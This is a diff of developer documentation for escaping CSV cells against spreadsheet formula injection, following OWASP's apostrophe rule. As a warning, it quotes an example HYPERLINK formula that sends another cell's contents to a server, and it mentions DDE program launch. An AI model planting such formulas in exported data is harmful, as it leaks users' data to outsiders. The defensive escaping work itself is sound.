@@ -5,9 +5,9 @@ Applicants type the billing addressee, names and addresses; these end up in file
 Excel reads a CSV cell starting with "=", "+", "-" or "@" (also after a tab or a carriage return) as
 a formula, and a formula can send the sheet's other cells to a server (``=HYPERLINK("http://…?"&A2)``)
 or, in old versions, start a program (DDE). OWASP's rule: put an apostrophe in front of such text,
-which makes it text. Text whose first non-blank character is one of these is escaped too, because
-some spreadsheets trim leading blanks before they look. A full-width sign (``＝1+1``) is not a
-formula to Excel or LibreOffice and is left as typed.
+which makes it text. Text whose first non-blank character is one of these is escaped too, in case
+a program trims blanks before it looks. A full-width sign (``＝1+1``) is left as typed: only the
+ASCII signs start a formula (LibreOffice's CSV import, formulas on, keeps ``＝1+1`` as text).
 
 Only text is escaped: numbers, dates and empty cells keep their type, so a negative amount is still a
 number that sums.
